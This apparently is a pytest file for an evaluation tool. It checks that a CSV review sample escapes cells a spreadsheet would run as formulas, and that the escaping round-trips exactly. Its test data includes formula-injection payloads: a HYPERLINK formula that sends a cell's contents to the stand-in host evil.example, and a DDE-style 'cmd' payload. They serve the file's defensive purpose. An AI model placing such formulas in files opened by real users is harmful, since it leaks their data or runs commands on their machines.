"""review_sample.csv: answers that a spreadsheet would run as formulas are written as text and read back intact."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from workbench.evaluate.review import escape_cell, import_review, read_sample, unescape_cell, write_sample

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by someone",
    "''+twice",
    "Paris is the capital of France.",
    "2 - 1 = 1",
    "",
]


def rows(answers: list[str]) -> list[dict[str, Any]]:
    def scored(prediction: str, rouge: float) -> dict[str, Any]:
        return {"prediction": prediction, "rouge_l": rouge}

    return [
        {
            "set": "task",
            "id": f"-{i}" if i % 2 else i,
            "instruction": "=instruction" if i == 0 else "Answer briefly.",
            "input": "",
            "reference": "Paris.",
            "base": scored("@base answer", 0.5),
            "tuned": scored(a, 0.5 + (i % 3 - 1) / 10),
        }
        for i, a in enumerate(answers)
    ]


def test_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
    path = tmp_path / "review_sample.csv"
    write_sample(path, rows(HOSTILE), size=50, seed=0)
    cells = [c for row in csv.reader(path.open(encoding="utf-8", newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    tuned = [r[7] for r in csv.reader(path.open(encoding="utf-8", newline=""))][1:]
    assert sorted(tuned) == sorted(escape_cell(a) for a in HOSTILE)
    assert "'=HYPERLINK(" in path.read_text(encoding="utf-8") and "'@base answer" in path.read_text(encoding="utf-8")


def test_reading_the_sample_back_gives_every_cell_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "review_sample.csv"
    write_sample(path, rows(HOSTILE), size=50, seed=0)
    back = read_sample(path)
    assert sorted(r["tuned"] for r in back) == sorted(HOSTILE)
    assert {r["base"] for r in back} == {"@base answer"}
    assert sorted(r["id"] for r in back) == sorted(str(r["id"]) for r in rows(HOSTILE))


@pytest.mark.parametrize("text", [*HOSTILE, "'", "'x", "''", "=", "'\t"])
def test_escaping_is_undone_exactly(text: str) -> None:
    assert unescape_cell(escape_cell(text)) == text


def test_import_review_reads_verdicts_of_escaped_rows(tmp_path: Path) -> None:
    path = tmp_path / "review_sample.csv"
    write_sample(path, rows(HOSTILE[:4]), size=50, seed=0)
    with path.open(encoding="utf-8", newline="") as f:
        table = list(csv.reader(f))
    verdict = table[0].index("verdict")
    for row, v in zip(table[1:], ["tuned", "base", "tie", ""], strict=True):
        row[verdict] = v
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(table)
    summary = import_review(path)
    assert summary["reviewed"] == 3 and summary["unreviewed"] == 1
    assert summary["verdicts"] == {"tuned": 1, "base": 1, "tie": 1, "both_bad": 0}
